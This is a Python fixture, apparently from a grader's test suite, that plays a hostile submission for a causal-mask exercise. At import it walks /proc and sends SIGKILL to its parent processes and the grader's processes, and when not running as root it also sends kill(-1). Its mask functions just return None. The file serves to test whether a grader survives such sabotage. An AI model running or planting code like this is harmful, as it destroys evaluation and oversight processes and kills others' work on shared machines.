# A hostile ch17 submission that kills its parent (tests/test_attacks.py; data).
#
# D1/H1: at import time, SIGKILL to every ancestor (the warm process, and up to the test's grader
# command if visible: the class grader's job process), to every process of the test's graders it can
# see (the other job processes), and to everything it may signal (kill -1, never as root: unprivileged
# inside its box that is the box; without a box, the grader's own user). Otherwise it answers wrongly
# (None): its honest part earns 0. Only imports, definitions and assignments at the top level.
import json
import os
import signal

CFG = json.loads(__CFG_JSON__)


def _cmd(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return f.read().replace(b"\0", b" ").decode(errors="replace")
    except Exception:
        return ""


def _ppid(pid):
    try:
        with open(f"/proc/{pid}/stat") as f:
            return int(f.read().rsplit(")", 1)[1].split()[1])
    except Exception:
        return 0


def _grader(pid):
    c = _cmd(pid)
    return CFG["run_tag"] in c and CFG["proc_mark"] not in c


def _kill_everyone():
    found, pid = [], os.getppid()
    while pid > 1 and "pytest" not in _cmd(pid):
        found.append(pid)
        if _grader(pid):
            break
        pid = _ppid(pid)
    pids = [int(p) for p in os.listdir("/proc") if p.isdigit()]
    tops = {p for p in pids if _grader(p)}
    for p in pids:
        q, hops = _ppid(p), 0
        while q > 1 and q not in tops and hops < 64:
            q, hops = _ppid(q), hops + 1
        if q in tops and p != os.getpid():
            found.append(p)
    print(f"SIGKILL {found}", flush=True)
    for pid in found:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    if os.getuid() != 0 and os.geteuid() != 0:
        try:
            os.kill(-1, signal.SIGKILL)
        except OSError:
            pass
    return len(found)


def causal_mask(num_tokens):
    return None


def causal_mask_with_offset(num_new, num_cached):
    return None


_KILLED = _kill_everyone()
